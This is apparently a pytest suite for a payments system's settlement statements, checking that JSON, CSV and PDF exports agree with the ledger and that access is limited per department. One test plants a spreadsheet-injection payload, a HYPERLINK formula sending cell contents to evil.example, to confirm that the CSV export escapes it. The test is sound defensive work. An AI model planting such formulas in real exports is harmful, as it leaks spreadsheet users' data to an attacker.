"""Settlement statements: rows and sums are the ledger's, or there is no statement."""

from __future__ import annotations

import asyncio
from datetime import timedelta
from pathlib import Path
from typing import Any
from uuid import UUID

import msgspec
import pytest
from hypothesis import HealthCheck, Phase, given
from hypothesis import settings as how
from hypothesis import strategies as st
from tests.city import City
from tests.rooms.payments.documents.steps import (
    BOOTH,
    KIOSK,
    PDF,
    at,
    back,
    days,
    desk_of,
    flat,
    ledger_owes,
    of,
    pages,
    paid,
    table,
)
from tests.rooms.payments.steps import owner_sql

from civicmall import payments
from civicmall.kernel import ids
from civicmall.payments.documents import rules, statement_pdf
from civicmall.payments.documents.feed import feed
from civicmall.payments.documents.models import EntryRow, Settlement
from civicmall.payments.documents.paper import fonts

SHOPS = (KIOSK, BOOTH)
ACTS = st.lists(
    st.one_of(
        st.tuples(
            st.just("pay"),
            st.lists(
                st.tuples(
                    st.sampled_from(SHOPS),
                    st.integers(1, 50_000),
                    st.sampled_from(["ok", "ok", "ok", "refuse"]),
                ),
                min_size=1,
                max_size=3,
            ),
        ),
        st.tuples(st.just("back"), st.tuples(st.integers(0, 9), st.integers(0, 2), st.floats(0.01, 1))),
    ),
    min_size=1,
    max_size=5,
)  # fmt: skip


class Books:
    """What has happened so far, kept beside the city by whoever did it."""

    def __init__(self) -> None:
        self.rows: dict[str, list[tuple[str, str, int]]] = {shop: [] for shop in SHOPS}
        """By shop: kind, order and line, what it adds to what is owed."""
        self.lines: list[tuple[Any, int, str, list[int]]] = []
        """Fulfilled lines: order, line, shop, and what is left of it."""

    def note(self, kind: str, order: dict[str, Any], no: int, shop: str, minor: int) -> None:
        self.rows[shop].append((kind, f"{order['id']}.{no}", minor))

    def sums(self, shop: str, kind: str) -> int:
        return sum(minor for what, _, minor in self.rows[shop] if what == kind)


BOOKS = Books()


async def happen(city: City, act: tuple[str, Any]) -> None:
    what, said = act
    if what == "pay":
        _, order = await paid(city, *(at(*one) for one in said))
        for line in order["lines"]:
            no, shop, minor = line["no"], line["shop"], line["amount_minor"]
            BOOKS.note("payment", order, no, shop, minor)
            if line["state"] == "fulfilled":
                BOOKS.lines.append((order, no, shop, [minor]))
            else:
                BOOKS.note("refund", order, no, shop, -minor)
    elif BOOKS.lines:
        at_line: int = said[0] % len(BOOKS.lines)
        order, no, shop, left = BOOKS.lines[at_line]
        share: float = said[2]
        minor = max(1, int(left[0] * share))
        answer = await back(city, order, no, minor)
        if left[0]:
            assert answer.status_code == 201, answer.text
            BOOKS.note("refund", order, no, shop, -minor)
            left[0] -= minor
        else:
            assert answer.json()["type"] == "/problems/not-refundable"


@how(
    max_examples=12,
    deadline=None,
    phases=[Phase.generate],
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(acts=ACTS)
async def test_whatever_happens_rows_sums_and_ledger_are_one(city: City, acts: list[Any]) -> None:
    for act in acts:
        await happen(city, act)
    operator = await desk_of(city, "operator")
    for shop in SHOPS:
        said = await of(operator, city, shop=shop)
        payments, refunds = BOOKS.sums(shop, "payment"), BOOKS.sums(shop, "refund")
        assert (said["payments_minor"], said["refunds_minor"]) == (payments, -refunds)
        assert said["opening_minor"] == said["paid_out_minor"] == said["fees_minor"] == 0
        assert said["net_minor"] == said["closing_minor"] == payments + refunds
        assert said["closing_minor"] == await ledger_owes(city, shop)
        rows = await table(operator, city, shop=shop)
        opening, *moves, closing = rows
        assert (opening[1], closing[1]) == ("opening", "closing")
        assert sorted((row[1], f"{row[3]}.{row[4]}", int(row[10])) for row in moves) == sorted(
            BOOKS.rows[shop]
        )
        assert sum(int(row[10]) for row in rows[:-1]) == int(closing[10]) == said["closing_minor"]
        assert all(round(float(row[9]) * 100) == int(row[10]) for row in rows)
        assert [row[0] for row in moves] == sorted(row[0] for row in moves)
        assert len(moves) == said["rows"]


async def test_the_pdf_has_the_same_sums_and_every_row(city: City) -> None:
    _, order = await paid(city, at(BOOTH, 1234500), at(BOOTH, 67))
    await back(city, order, 1, 50)
    department = await desk_of(city, BOOTH)
    said = await of(department, city)
    for lang, words in (("zh-CN", "结算单"), ("en", "Settlement statement")):
        answer = await department.get(
            "/v1/desk/settlement.pdf", params=days(city), headers={"accept-language": lang}
        )
        assert (answer.status_code, answer.headers["content-type"]) == (200, PDF)
        first, *rest = pages(answer.content)
        assert words in first
        for name in ("opening", "payments", "net", "closing"):
            minor = said[f"{name}_minor"]
            assert f"¥{minor / 100:,.2f}" in first, name
        assert f"¥-{said['refunds_minor'] / 100:,.2f}" in first
        text = "".join(rest)
        for no, minor in ((1, "12,345.00"), (2, "0.67"), (1, "-0.50")):
            assert f"{order['id']}.{no}" in text
            assert minor in text
        assert "暂计" in first or "Provisional" in first, "today is not over"
        for line in order["lines"]:
            assert line["receipt_number"][:20] in text


async def test_each_department_sees_its_own(city: City) -> None:
    await paid(city, at(KIOSK, 100), at(BOOTH, 200))
    kiosk, booth = await desk_of(city, KIOSK), await desk_of(city, BOOTH)
    citizen = (await paid(city, at(KIOSK, 1)))[0].http
    for path in ("settlement", "settlement.csv", "settlement.pdf", "payouts"):
        url = f"/v1/desk/{path}"
        own = await kiosk.get(url, params=days(city))
        assert own.status_code == 200, own.text
        assert (await kiosk.get(url, params={**days(city), "shop": KIOSK})).status_code == 200
        other = await booth.get(url, params={**days(city), "shop": KIOSK})
        assert (other.status_code, other.json()["type"]) == (404, "/problems/no-such-shop")
        stolen = await booth.get(url, params={**days(city), "account": f"{KIOSK}.account"})
        assert stolen.json()["type"] == "/problems/no-such-settlement-account"
        assert (await citizen.get(url, params=days(city))).status_code == 403
        assert (await (await city.anonymous()).get(url, params=days(city))).status_code == 401
    rows = await table(booth, city)
    assert {row[2] for row in rows[1:-1]} == {BOOTH}
    nobody = await (await desk_of(city, "operator")).get("/v1/desk/settlement", params=days(city))
    assert (nobody.status_code, nobody.json()["type"]) == (400, "/problems/bad-request")


@pytest.mark.parametrize(
    "period", [(1, 0), (0, -1), (-40, 0), (-31, 0), (-800_000, -799_999), (-740_200, -740_190)]
)
async def test_bad_periods_are_refused_by_name(city: City, period: tuple[int, int]) -> None:
    first, last = period
    today = city.house.clock.today()
    try:
        said = {"from": str(today + timedelta(days=first)), "to": str(today + timedelta(days=last))}
    except OverflowError:
        said = {"from": "0001-01-01", "to": "0001-01-02"}
    desk = await desk_of(city, KIOSK)
    for path in ("settlement", "settlement.csv", "settlement.pdf"):
        answer = await desk.get(f"/v1/desk/{path}", params=said)
        assert (answer.status_code, answer.json()["type"]) == (422, "/problems/bad-period")


async def test_a_feed_that_is_behind_makes_no_wrong_paper(city: City) -> None:
    """A payment is posted and its event still waits: no statement, and a word when to ask again."""
    _, order = await paid(city, at(KIOSK, 4200))
    desk = await desk_of(city, KIOSK)
    order_id = UUID(order["id"])
    event_id = ids.new(ids.bucket_of(order_id))
    await owner_sql(
        city,
        "insert into kernel.outbox (bucket, id, type, body, next_at) values ($1, $2,"
        " 'payments.order_paid', jsonb_build_object('order_id', $3::text), now() + interval '1 hour')",
        *(ids.bucket_of(order_id), event_id, order["id"]),
    )
    await owner_sql(city, "delete from payments.desk_entry where order_id = $1", order_id)
    for path in ("settlement", "settlement.csv", "settlement.pdf"):
        late = await desk.get(f"/v1/desk/{path}", params=days(city))
        assert (late.status_code, late.json()["type"]) == (409, "/problems/not-settled-yet")
        assert (late.headers["retry-after"], late.json()["orders"]) == ("5", 1)
    await owner_sql(city, "update kernel.outbox set next_at = now() where id = $1", event_id)
    await city.settled()
    assert (await of(desk, city))["closing_minor"] == await ledger_owes(city, KIOSK)


@pytest.mark.parametrize(
    "wrong",
    [
        "update payments.desk_entry set amount_minor = amount_minor + 1 where order_id = $1",
        "delete from payments.desk_entry where order_id = $1 and kind = 'refund'",
        "update payments.desk_entry set kind = 'payment' where order_id = $1 and kind = 'refund'",
    ],
)
async def test_rows_that_are_not_the_ledgers_make_no_paper(city: City, wrong: str) -> None:
    _, order = await paid(city, at(BOOTH, 900))
    await back(city, order, 1, 400)
    desk = await desk_of(city, BOOTH)
    assert (await desk.get("/v1/desk/settlement", params=days(city))).status_code == 200
    kept = await city.house.db.fetch(
        "select * from payments.desk_entry where order_id = $1", UUID(order["id"])
    )
    assert len(kept) == 2
    await owner_sql(city, wrong, UUID(order["id"]))
    for path in ("settlement", "settlement.csv", "settlement.pdf"):
        answer = await desk.get(f"/v1/desk/{path}", params=days(city))
        assert (answer.status_code, answer.json()["type"]) == (500, "/problems/settlement-differs")
    await owner_sql(city, "delete from payments.desk_entry where order_id = $1", UUID(order["id"]))
    await feed(city.house.db, UUID(order["id"]))
    assert (await of(desk, city))["closing_minor"] == await ledger_owes(city, BOOTH)


async def test_what_a_shop_says_is_no_formula_in_a_spreadsheet(city: City) -> None:
    _, order = await paid(city, at(KIOSK, 77))
    evil = '=HYPERLINK("http://evil.example/?"&A1)'
    await owner_sql(
        city,
        "update payments.desk_entry set title = jsonb_build_object('zh-CN', $2::text),"
        " period = '@SUM(1)', fee_code = '+1', receipt_number = e'-2\\n+3' where order_id = $1",
        *(UUID(order["id"]), evil),
    )
    rows = [row for row in await table(await desk_of(city, KIOSK), city) if row[3] == order["id"]]
    assert [row[5:9] for row in rows] == [["'+1", f"'{evil}", "'@SUM(1)", "'-2 +3"]]


async def test_too_many_rows_for_a_pdf_are_refused(
    city: City, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(rules, "ROWS_MAX_PDF", 1)
    await paid(city, at(KIOSK, 1), at(KIOSK, 2))
    desk = await desk_of(city, KIOSK)
    answer = await desk.get("/v1/desk/settlement.pdf", params=days(city))
    assert (answer.status_code, answer.json()["type"]) == (422, "/problems/statement-too-long")
    assert answer.json()["rows_max"] == 1
    assert (await desk.get("/v1/desk/settlement.csv", params=days(city))).status_code == 200


async def test_thousands_of_rows_have_their_pages(city: City) -> None:
    """Drawn as the door draws it, from as many rows as it takes."""
    _, order = await paid(city, at(KIOSK, 500))
    desk = await desk_of(city, KIOSK)
    said = await of(desk, city)
    found = msgspec.convert(said, Settlement)
    one = EntryRow(
        city.house.clock.now(), "payment", UUID(order["id"]), 1, KIOSK, UUID(order["id"]), "stall.fee",
        {"zh-CN": "票" * 40}, "2026-10", 500, "K" * 60,
    )  # fmt: skip
    body = await statement_pdf.pen.draw(
        lambda mine: statement_pdf.drawn(found, [one] * 2_000, "售票处", "zh-CN", mine)
    )
    assert fonts("statement")
    texts = pages(body)
    assert len(texts) == 1 + -(-2_000 // statement_pdf.ROWS_ON_A_PAGE)
    assert sum(text.count(order["id"]) for text in texts) == 2_000
    assert f"第{len(texts)}页，共{len(texts)}页" in flat(texts[-1])
    assert len(body) < 1_000_000


async def test_statements_while_money_moves_are_each_right_in_themselves(city: City) -> None:
    """Each is of one moment: what its rows add up to is what it says."""
    desk = await desk_of(city, KIOSK)
    moving = asyncio.gather(*(paid(city, at(KIOSK, 10 + n)) for n in range(6)))
    seen = 0
    while not moving.done() or not seen:
        answer = await desk.get("/v1/desk/settlement.csv", params=days(city))
        if answer.status_code == 409:
            assert answer.json()["type"] == "/problems/not-settled-yet"
            continue
        assert answer.status_code == 200, answer.text
        lines = answer.content.decode("utf-8-sig").splitlines()[1:]
        amounts = [int(line.rpartition(",")[2]) for line in lines]
        assert sum(amounts[:-1]) == amounts[-1]
        seen += 1
    await moving
    assert (await of(desk, city))["closing_minor"] == await ledger_owes(city, KIOSK)


async def test_what_was_there_before_statements_were_is_in_them(city: City) -> None:
    """The migration's own statements, run on a city that has paid and refunded."""
    _, order = await paid(city, at(KIOSK, 600), at(BOOTH, 300))
    await back(city, order, 1, 50)
    _, refused = await paid(city, at(KIOSK, 40, "refuse"), at(KIOSK, 70))
    home = Path(str(payments.__file__)).parent / "migrations"
    text = (home / "0005_documents.sql").read_text().partition("-- migrate: rollback")[0]
    filled = [part for part in text.split(";\n") if "insert into payments.desk_entry" in part]
    assert len(filled) == 3
    ask = (
        "select account, kind, no, shop, order_id, amount_minor, receipt_number, posted_at"
        " from payments.desk_entry where order_id = any($1) order by order_id, kind, no, amount_minor"
    )
    mine = [UUID(order["id"]), UUID(refused["id"])]
    before = [tuple(row) for row in await city.house.db.fetch(ask, mine)]
    assert len(before) == 6
    # As it was before refunds had rows: the whole line went back, and only the ledger knows when.
    await owner_sql(city, "delete from payments.refund where order_id = $1", UUID(refused["id"]))
    await owner_sql(city, "delete from payments.desk_entry")
    for part in filled:
        await owner_sql(city, part)
    assert [tuple(row) for row in await city.house.db.fetch(ask, mine)] == before
    for shop in SHOPS:
        said = await of(await desk_of(city, shop), city)
        assert said["closing_minor"] == await ledger_owes(city, shop)
